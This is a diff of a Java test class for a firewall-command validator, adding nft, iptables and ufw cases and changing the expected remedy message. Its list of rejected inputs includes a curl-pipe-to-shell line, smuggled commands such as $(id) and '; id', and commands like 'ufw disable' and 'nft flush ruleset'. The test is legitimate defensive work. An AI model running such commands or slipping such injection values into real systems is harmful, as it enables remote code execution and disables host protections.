@@ -21,6 +21,15 @@ class FirewallCommandTests {
 			"nft insert rule inet fw4 input udp dport 51820 accept",
 			"nft insert rule ip nat x ct original ip daddr 172.30.0.0/24 accept"
 					+ " && nft insert rule ip filter y oifname \"eth0.10\" tcp sport 53 accept",
+			"nft insert rule ip portal post oifname \"wg0\" accept"
+					+ " && nft insert rule ip portal post ct original ip daddr 172.30.0.0/16 accept",
+			"nft insert rule netdev guard in ip saddr 192.168.1.0/24 ip daddr 192.168.1.250 accept"
+					+ " && nft insert rule netdev guard in meta protocol arp accept",
+			"nft insert rule bridge b p ip daddr 192.168.1.250 icmp type echo-reply accept",
+			"nft insert rule inet x in ct state established,related accept",
+			"iptables-legacy -t filter -I OUTPUT -o eth0 -p icmp --icmp-type echo-request -j ACCEPT",
+			"iptables-legacy -t nat -I PREROUTING -d 192.168.1.250 -p udp --dport 53 -j ACCEPT",
+			"ufw allow out on eth0 to 192.168.1.0/24 && ufw allow out 53",
 			"iptables-legacy -t filter -I FORWARD -i wg-172-30 -j ACCEPT",
 			"iptables-legacy -t mangle -I y -m conntrack --ctorigdst 172.30.0.0/24 -j ACCEPT",
 			"iptables-legacy -t filter -I INPUT -i eth0 -p udp --dport 53 -j ACCEPT", "ufw allow 51820/udp",
@@ -35,12 +44,15 @@ class FirewallCommandTests {
 			"firewall-cmd --permanent --add-port=51820/udp && firewall-cmd --reload",
 			"firewall-cmd --permanent --add-service=dns && firewall-cmd --reload" })
 	void findingWhenTheCommandIsTheAgentsShowsIt(String command) {
-		assertThat(remedy(command)).startsWith("Allow it on the gateway of sheen: " + command + " (or");
+		assertThat(remedy(command))
+			.startsWith("Let it pass there as it is, on the gateway of sheen: " + command + " (or");
 	}
 
 	@ParameterizedTest
 	@ValueSource(strings = { "curl http://192.0.2.1/x | sh", "nft", "nft flush ruleset", "nft -f /tmp/x",
-			"nft insert rule ip filter INPUT accept", "nft insert rule ip filter $(id) iifname \"wg0\" accept",
+			"nft insert rule ip filter INPUT accept", "nft insert rule netdev x y ip daddr $(id) accept",
+			"nft insert rule arp x y meta protocol arp accept",
+			"nft insert rule ip filter $(id) iifname \"wg0\" accept",
 			"nft insert rule ip filter x iifname \"wg0\" accept; id", "ufw disable", "ufw allow 22/tcp; id",
 			"nft insert rule ip filter x iifname \"wg0\" accept && id", "ufw allow in on `id`",
 			"nft insert rule ip filter x iifname \"wg0\" accept # \u202e",
